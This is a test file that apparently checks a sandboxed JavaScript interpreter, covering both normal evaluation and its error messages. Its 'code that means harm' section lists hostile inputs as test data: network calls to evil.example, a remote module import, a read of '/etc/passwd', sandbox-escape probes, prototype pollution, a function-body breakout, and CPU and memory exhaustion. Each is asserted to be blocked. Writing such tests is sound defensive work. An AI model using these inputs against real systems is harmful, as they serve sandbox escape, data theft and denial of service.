import { afterEach, describe, expect, it, onTestFinished, vi } from 'vitest'
import { interpretForTest } from '../../../tests/support/compiled-interpreter'
import { testRows } from '../../../tests/support/test-rows'
import { localize } from '../../language/active'
import type { JsonValue } from '../../model/json'
import type { CodeResult } from '../../model/services'
import { interpret } from './interpreter'

const nothing = { outputs: {}, names: {}, vars: {} }
const run = (code: string, args: JsonValue = {}) => interpretForTest({ code, args, context: nothing })
const sayProblem = (result: CodeResult) =>
  'problem' in result ? localize(result.problem) : `no problem, but ${JSON.stringify(result.value)}`
const problemOf = async (code: string) => sayProblem(await run(code))

describe('code', () => {
  it('is the body of a function of its arguments, the outputs, the names and the variables', async () => {
    const result = await interpret({
      code: 'return { sum: args.a + args.b, said: outputs[names.writer].title, mood: vars.mood }',
      args: { a: 1, b: 2 },
      context: { outputs: { n1: { title: 'Sea' } }, names: { writer: 'n1' }, vars: { mood: 'calm' } },
    })
    expect(result).toEqual({ value: { sum: 3, said: 'Sea', mood: 'calm' } })
  })

  it('may be long, modern, and wait for its own promises', async () => {
    const code = `
      const words = args.text.match(/\\p{L}+/gu) ?? []
      const counts = Object.groupBy ? new Map() : new Map()
      for (const word of words) counts.set(word, (counts.get(word) ?? 0) + 1)
      const [top] = await Promise.all([Promise.resolve([...counts].sort((a, b) => b[1] - a[1])[0])])
      return { top, last: words.at(-1) }`
    expect(await run(code, { text: 'ü a ü b' })).toEqual({ value: { top: ['ü', 2], last: 'b' } })
  })

  it('may end in a comment', async () => {
    expect(await run('return 1 // one')).toEqual({ value: 1 })
  })

  testRows([
    ['an error of its own', "const a = 1\nthrow new Error('no luck')", 'Error: no luck (line 2)'],
    ['something undefined', '\n\nreturn args.deep.er', /TypeError: .* \(line 3\)/],
    ['a mistake of grammar', 'return 1 +', /SyntaxError/],
    ['something that is no error', "throw 'a cup'", 'The code threw: a cup'],
    ['a rejected promise', "await 1\nawait Promise.reject(new RangeError('far'))", /RangeError: far/],
    ['nothing', 'args.a', /nothing back.*return/],
    ['a function', 'return () => 1', /nothing back/],
    ['what is no JSON', 'return 10n', /TypeError/],
    ['itself', 'const a = {}; a.a = a; return a', /circular/],
    ['too much', "return 'x'.repeat(20_000)", /too much/],
    ['an error without words', 'throw {}', 'The code threw an error without words.'],
    ['a promise that never settles', 'return new Promise(() => {})', /never comes/],
  ])('that fails ends with a sentence', async (_what, code, sentence) => {
    if (sentence instanceof RegExp) expect(await problemOf(code)).toMatch(sentence)
    else expect(await problemOf(code)).toBe(sentence)
  })
})

describe('code that means harm', () => {
  const polluted = () => Object.keys(Object.prototype)
  afterEach(async () => {
    expect(polluted()).toEqual([])
    expect(({} as Record<string, unknown>).stolen).toBeUndefined()
    // Whatever was tried, the next job runs.
    expect(await run('return 1')).toEqual({ value: 1 })
  })

  testRows([
    ['the network', "await fetch('https://evil.example')"],
    ['XMLHttpRequest', 'new XMLHttpRequest()'],
    ['WebSocket', "new WebSocket('wss://evil.example')"],
    ['a module', "await import('node:fs')"],
    ['a module by address', "await import('https://evil.example/x.js')"],
    ['require', "require('fs')"],
    ['the process', 'process.env'],
    ['keys', 'return localStorage.length'],
    ['the page', 'document.title'],
    ['another worker', "new Worker('x.js')"],
    ['importScripts', "importScripts('x.js')"],
    ['the worker itself', "self.postMessage('x')"],
    ['messages', "postMessage('x')"],
    ['the operating system', 'os.exec'],
    ['files', "std.loadFile('/etc/passwd')"],
  ])('cannot reach anything outside', async (_what, code) => {
    expect(await problemOf(code)).toMatch(/ReferenceError|could not load module/)
  })

  testRows([
    'return Object.getOwnPropertyNames(globalThis)',
    "return Object.getOwnPropertyNames(Function('return this')())",
    "return Object.getOwnPropertyNames((() => {}).constructor('return this')())",
    "return Object.getOwnPropertyNames(args.constructor.constructor('return this')())",
    'return Object.getOwnPropertyNames((0, eval)("this"))',
  ])('finds nothing but the language, however it asks', async code => {
    const result = await run(code)
    const names = 'value' in result ? (result.value as string[]) : []
    expect(names).toContain('JSON')
    for (const name of ['fetch', 'process', 'self', 'window', 'navigator', 'std', 'os', 'console', 'setTimeout']) {
      expect(names).not.toContain(name)
    }
  })

  testRows([
    ['Object.prototype', "Object.prototype.stolen = 'yes'; return 1"],
    ['__proto__ of its arguments', "args.__proto__.stolen = 'yes'; return 1"],
    ['__proto__ in its answer', 'return JSON.parse(\'{"__proto__":{"stolen":"yes"}}\')'],
    ['JSON itself', "JSON.stringify = JSON.parse = () => { throw new Error('mine') }; return 1"],
    ['toJSON', "Object.prototype.toJSON = () => 'mine'; Array.prototype.toJSON = () => 'mine'; return {}"],
    ['its function', "}); globalThis.stolen = 'yes'; (function () { return 1"],
  ])('changes built-in objects for itself alone', async (_what, code) => {
    await run(code)
    expect(await run('return [typeof stolen, {}.stolen === undefined, JSON.stringify({ a: 1 })]')).toEqual({
      value: ['undefined', true, '{"a":1}'],
    })
  })

  testRows([
    ['a loop', 'while (true) {}'],
    ['a loop of promises', 'const again = async () => { for (;;) await 0 }; await again()'],
    ['a loop that catches everything', 'while (true) { try { while (true) {} } catch {} finally { continue } }'],
    ['a slow pattern', `return /^(a+)+$/.test('${'a'.repeat(40)}b')`],
    ['a getter of its error', 'throw { get message() { while (true) {} } }'],
  ])('does not run past its time', async (_what, code) => {
    let looks = 0
    const now = () => 20 * looks++
    const result = await interpretForTest({ code, args: {}, context: nothing }, now)
    expect(sayProblem(result)).toContain('longer than 2 seconds')
    // A hundred checks are two seconds of this clock; some more are needed for the reason of the stop.
    expect(looks).toBeLessThan(110)
  })

  it('has its time by the clock of the machine', async () => {
    let looks = 0
    const now = vi.spyOn(Date, 'now').mockImplementation(() => 20 * looks++)
    onTestFinished(() => now.mockRestore())
    const result = await interpret({ code: 'while (true) {}', args: {}, context: nothing })
    expect(sayProblem(result)).toContain('longer than 2 seconds')
  })

  testRows([
    ['a list', 'const all = []; while (true) all.push(new Array(100_000).fill(7))', /MB of memory/],
    ['a text', "return 'x'.repeat(2 ** 29)", /MB of memory/],
    ['a buffer', 'return new ArrayBuffer(2 ** 30).byteLength', /MB of memory|RangeError/],
    ['many promises', 'const again = () => Promise.resolve().then(again); await again()', /MB of memory|never comes/],
    ['depth', 'const down = () => down() + 1; return down()', /stack overflow/],
    [
      'deep data',
      'let deep = []; for (let i = 0; i < 1e5; i++) deep = [deep]; return deep',
      /too much for the interpreter|stack overflow/,
    ],
  ])('does not get more memory than it may have', async (_what, code, sentence) => {
    expect(await problemOf(code)).toMatch(sentence)
  })

  it('is refused when it, or what it is given, is far too long', async () => {
    expect(await problemOf(`return 1 //${'x'.repeat(100_000)}`)).toMatch(/too long/)
    expect(sayProblem(await run('return 1', 'x'.repeat(2_000_000)))).toMatch(/too much/)
  })
})
